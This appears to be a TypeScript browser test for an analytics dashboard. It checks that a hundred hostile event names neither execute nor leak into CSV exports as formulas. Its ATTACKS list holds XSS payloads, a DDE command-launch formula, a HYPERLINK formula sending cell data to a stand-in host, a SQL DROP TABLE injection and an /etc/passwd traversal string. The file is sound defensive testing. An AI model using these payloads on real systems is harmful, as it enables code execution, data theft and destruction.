import { readFile } from "node:fs/promises";
import { expect } from "chai";
import { rebuildRollups } from "etl-lib";
import { openPage, showTab, TABS } from "../../testing/dashboard/browser.js";
import { type Served, serve } from "../../testing/dashboard/served.js";
import { emptyWarehouse } from "../../testing/dashboard/warehouse.js";

const RUN = "globalThis.pwned=1";
const ATTACKS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `"><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `' onmouseover='${RUN}' x='`,
  `</script><script>${RUN}</script>`,
  `</textarea></select></title><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `{b} {a|rich} {value}`,
  `__proto__`,
  `constructor`,
  `&lt;b&gt;&amp;&#x22;&quot;`,
  `]]><![CDATA[`,
  `<!-- -->`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd`,
  `+1+1`,
  `-2+3+cmd`,
  "\t=1+1",
  "\n=1+1",
  `  =HYPERLINK("http://elsewhere.example/?"&A1)`,
  "\uFF1D1+1",
  `'; DROP TABLE public.clickstream_events; --`,
  `%s%n%x {0} \\1 $1 \\u0000`,
  `../../../../etc/passwd`,
  `a,b;c|d&e=f#g?h%20i+j/k`,
  `"quoted","cells"`,
  `${"W".repeat(300)}`,
  `${"\u00C1o kho\u00E1c r\u1EA5t d\u00E0i ".repeat(40)}`,
  "\u202Eright to left\u202C",
  "Z\u0351\u0342\u0357a\u0351\u0342\u0357l\u0351\u0342\u0357g\u0351\u0342\u0357o",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{1F6D2}",
  "\u200B",
  " ",
  "\u0001\u0007\u001B[31m",
  "null",
  "undefined",
  "NaN",
  "TRUE",
  "-",
  "0",
  "1e999",
  "2025-13-45",
  "\\",
  '"',
  "'",
  "<",
];
/** A hundred: each as it is, and after what a name may begin with. */
const HOSTILE = [...ATTACKS, ...ATTACKS.map((attack) => `x ${attack}`)];

describe("the dashboard on names that strangers made up", () => {
  let served: Served;
  before(async function () {
    expect(new Set(HOSTILE).size).to.equal(100);
    served = await serve(this, async () => {
      const database = await emptyWarehouse();
      await database.pool.query(
        `INSERT INTO public.clickstream_events
         SELECT gen_random_uuid(), '2025-12-06 05:00Z'::timestamptz + n * interval '1 minute', CASE WHEN kind = 1 THEN name ELSE 'product_view' END,
           name, name, name, name, name, true, name, name, name, name, 1000, NULL, name
         FROM unnest($1::text[]) WITH ORDINALITY AS hostile (name, n), generate_series(1, 2) AS kind`,
        [HOSTILE],
      );
      await rebuildRollups(database.pool);
      await database.pool.query(
        `INSERT INTO etl.runs (run_id, trigger, bucket, status, started_at, contract)
         SELECT gen_random_uuid(), 'local', 'b', 'succeeded', now(), jsonb_build_object('checked', 100, 'findings',
           jsonb_agg(jsonb_build_object('event', name, 'field', name, 'kind', name, 'events', 1)))
         FROM unnest($1::text[]) AS name`,
        [HOSTILE.map((name) => name.slice(0, 100))],
      );
      await database.pool.query(
        "INSERT INTO dw.alerts SELECT 'new_event_name', now(), 100, NULL, true, now(), string_agg(name, ', ') FROM unnest($1::text[]) AS name",
        [HOSTILE.slice(0, 20)],
      );
      return database;
    });
  });
  after(async () => served?.close());

  const at = (query: string) => `${served.dashboard.url}?lang=en&from=2025-12-06&to=2025-12-06&${query}`;

  it("executes none of a hundred, keeps its layout, and gives each panel's CSV without a formula", async () => {
    const { page, faults, elsewhere } = await openPage(served.browser, at("tab=overview"));
    page.on("dialog", (dialog) => faults.push(`dialog: ${dialog.message()}`));
    for (const tab of TABS) {
      if (tab !== "overview") await showTab(page, tab);
      for (const details of await page.locator(".tab-pane.active details:visible").all())
        await details.evaluate((node) => node.setAttribute("open", ""));
      for (const plot of await page.locator(".tab-pane.active .plot:visible").all()) {
        await plot.focus();
        for (let step = 0; step < 5; step++) await page.keyboard.press("ArrowDown"); // its tooltips
      }
      expect(await page.evaluate("globalThis.pwned"), tab).to.equal(undefined);
      expect(await page.evaluate("checks.outside()"), tab).to.deep.equal([]);
      for (const link of await page.locator(".tab-pane.active a.shiny-download-link:visible").all()) {
        const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
        const text = await readFile(await download.path(), "utf8");
        const formulas = cellsOf(text).filter((cell) =>
          /^[\s\u00A0\uFEFF]*[=+@\uFF1D\uFF0B\uFF20-]/.test(cell),
        );
        expect(
          formulas.filter((cell) => Number.isNaN(Number(cell))),
          download.suggestedFilename(),
        ).to.deep.equal([]);
      }
    }
    expect(faults).to.deep.equal([]);
    expect(elsewhere).to.deep.equal([]);
    await page.context().close();
  });

  it("filters by each kind of such a name, and the address holds it", async () => {
    for (const [kind, name] of [
      ["login", ATTACKS[0]],
      ["event", ATTACKS[1]],
      ["category", ATTACKS[3]],
      ["brand", ATTACKS[5]],
      ["product", ATTACKS[28]],
    ] as const) {
      const query = `${kind}=${encodeURIComponent(name ?? "")}`;
      const { page, faults } = await openPage(
        served.browser,
        at(`${query}&tab=${kind === "product" ? "products" : "overview"}`),
      );
      expect(await page.locator(".notice.bad").count(), kind).to.equal(0);
      expect(new URL(page.url()).searchParams.get(kind), kind).to.equal(name);
      expect(await page.evaluate("globalThis.pwned"), kind).to.equal(undefined);
      expect(faults, kind).to.deep.equal([]);
      await page.context().close();
    }
    expect(served.log, "what R said").to.deep.equal([]);
  });
});

/** The cells of a CSV, unquoted. */
function cellsOf(text: string): string[] {
  return [...text.replace(/^\uFEFF/, "").matchAll(/"((?:[^"]|"")*)"|[^",\n]+/g)].map((match) =>
    (match[1] ?? match[0]).replaceAll('""', '"'),
  );
}
